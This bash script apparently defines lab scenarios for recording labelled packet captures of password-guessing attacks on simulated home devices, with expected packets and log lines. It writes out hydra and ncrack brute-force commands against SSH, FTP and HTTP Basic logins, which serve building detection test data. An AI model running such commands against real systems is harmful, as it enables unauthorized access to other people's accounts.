# shellcheck shell=bash
# Password guessing by hydra and ncrack; 24 wrong guesses, then (where the label says so) the right one.

HOME_LIFE=(thermo sensor door bulb plug hub)

# syns HOST HOST PORT: the opening packets of a service's connections.
syns() {
    echo "tcp[tcpflags] & (tcp-syn|tcp-ack) = tcp-syn and src ${IP[$1]} and dst ${IP[$2]} and dst port $3"
}

between() {
    echo "tcp port $3 and host ${IP[$1]} and host ${IP[$2]}"
}

# guess ATTACKER VICTIM SERVICE PORT COMMAND…: records one run with life around it.
guess() {
    local attacker=$1 victim=$2 service=$3 port=$4
    shift 4
    capture_start
    at 6
    attack brute-force "$attacker" "$victim" "$service" "$(between "$attacker" "$victim" "$port")" -- "$@"
    pause 4
    capture_stop
}

scenario brute-ssh-hydra committed pcapng brute-force 'attack: SSH passwords guessed by hydra, the 25th is right'
brute-ssh-hydra() {
    background "${HOME_LIFE[@]}" speaker
    guess speaker nas tcp/22 22 hydra -I -V -t 4 -l operator -P "$WORK/secret/guesses" "ssh://${IP[nas]}"
    packets 5 "$(syns speaker nas 22)"
    logged 20 'Failed password for operator' sshd-nas
    logged 1 'login: operator +password:' tool
}

scenario brute-ssh-ncrack committed pcap brute-force 'attack: SSH passwords guessed by ncrack from the Internet against the hub, none right'
brute-ssh-ncrack() {
    background "${HOME_LIFE[@]}"
    guess out hub tcp/22 22 ncrack -v -T4 --user operator -P "$WORK/secret/wrong" "ssh://${IP[hub]}"
    packets 5 "$(syns out hub 22)"
    logged 20 'Failed password for operator' sshd-hub
}

scenario brute-ftp-hydra committed nsecpcap brute-force 'attack: FTP passwords guessed by hydra, the 25th is right'
brute-ftp-hydra() {
    background "${HOME_LIFE[@]}" speaker
    guess speaker nas tcp/21 21 hydra -I -V -t 4 -l operator -P "$WORK/secret/guesses" "ftp://${IP[nas]}"
    packets 5 "$(syns speaker nas 21)"
    logged 20 'FAIL LOGIN' vsftpd
    logged 1 'login: operator +password:' tool
}

scenario brute-http-hydra committed pcap brute-force 'attack: HTTP Basic passwords guessed by hydra, the 25th is right'
brute-http-hydra() {
    background "${HOME_LIFE[@]}" cam
    guess cam nas tcp/80 80 hydra -I -V -t 4 -l operator -P "$WORK/secret/guesses" "${IP[nas]}" http-get /
    packets 20 "$(syns cam nas 80)"
    logged 20 '" 401 ' nginx-nas-access
    logged 1 'login: operator +password:' tool
}
